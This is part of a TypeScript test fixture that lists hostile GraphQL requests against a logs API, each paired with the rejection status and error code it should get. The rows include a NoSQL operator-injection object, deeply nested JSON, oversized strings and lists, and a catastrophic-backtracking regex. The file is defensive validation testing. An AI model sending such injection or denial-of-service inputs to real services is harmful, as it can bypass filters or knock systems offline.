  ['variables by GET that are a list', get('/graphql?query={__typename}&variables=[]'), 400, 'BAD_REQUEST'],
  ['extensions by GET that are no JSON', get('/graphql?query={__typename}&extensions=x'), 400, 'BAD_REQUEST'],
  ['two queries by GET', get('/graphql?query={__typename}&query={endpoints{name}}'), 400, 'BAD_REQUEST'],
  ['no query by GET', get('/graphql'), 400, 'BAD_REQUEST'],
];

const variable = (type: string, value: unknown) =>
  ask(`query ($v: ${type}) { logsAll(project: "p", isoTimestampEnd: $v) { rowCount } }`, { v: value });
const project = (value: unknown) =>
  ask('query ($v: String!) { logsAll(project: $v) { rowCount } }', { v: value });
const variables: readonly Row[] = [
  ['a list for a text', project(['p']), 400, 'BAD_USER_INPUT'],
  ['an object for a text', project({ $ne: '' }), 400, 'BAD_USER_INPUT'],
  ['a number for a text', project(1), 400, 'BAD_USER_INPUT'],
  ['nothing for a text', project(undefined), 400, 'BAD_USER_INPUT'],
  ['null for a text', project(null), 400, 'BAD_USER_INPUT'],
  [
    '30,000 objects within each other',
    post(
      `{"query":"query ($v: String!) { logsAll(project: $v) { rowCount } }","variables":{"v":${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}}}`,
    ),
    400,
    'BAD_USER_INPUT',
  ],
  ['a list of 50,000', project(Array.from({ length: 50_000 }, () => 1)), 400, 'BAD_USER_INPUT'],
  ['an empty text', project(''), 200, 'MISSING_PARAMETER'],
  ['a NUL in a text', project('a\0b'), 200, 'INVALID_PARAMETER'],
  [
    'half a surrogate pair in a text',
    post('{"query":"query ($v: String!) { logsAll(project: $v) { rowCount } }","variables":{"v":"\\ud800"}}'),
    200,
    'INVALID_PARAMETER',
  ],
  ['a text of 200,000 characters', project('p'.repeat(200_000)), 200, 'INVALID_PARAMETER'],
  ['a time in words', variable('DateTime', 'yesterday'), 400, 'BAD_USER_INPUT'],
  ['a time of 200,000 characters', variable('DateTime', '2'.repeat(200_000)), 400, 'BAD_USER_INPUT'],
  ['a time that is a number', variable('DateTime', 1e308), 400, 'BAD_USER_INPUT'],
  ['a variable of another type', variable('Float', 1), 400, 'GRAPHQL_VALIDATION_FAILED'],
  ['a variable of a type that is none', variable('Nope', 1), 400, 'GRAPHQL_VALIDATION_FAILED'],
  [
    'a variable that nobody declares',
    ask('{ logsAll(project: $v) { rowCount } }', { v: 'p' }),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'a pattern that nobody closes, as an argument',
    ask(fieldOf('project: "(", interval: DAILY')),
    200,
    'INVALID_PARAMETER',
  ],
  [
    'counts within counts, as an argument',
    ask(fieldOf('project: "((a{1,100}){1,100}){1,100}", interval: DAILY')),
    200,
    'INVALID_PARAMETER',
  ],
  [
    'a pattern of 100,000 characters, as an argument',
    ask(fieldOf(`project: "${'a'.repeat(100_000)}", interval: DAILY`)),
    200,
    'INVALID_PARAMETER',
  ],
  [
    'an interval as a variable that is none',
    ask('query ($i: UsageInterval!) { usageApiCounts(project: "p", interval: $i) { rowCount } }', {
      i: 'DAYLY',
    }),
    400,
    'BAD_USER_INPUT',
  ],
];

export const hostileRequests: readonly Hostile[] = Object.entries({
  keys,
  methods,
  paths,
  bytes,
  parameters,
  documents,
  bodies,
  variables,
}).flatMap(([part, rows]) =>
  rows.map(([name, sent, status, code]) => ({ name: `${part}: ${name}`, bytes: sent, status, code })),
);
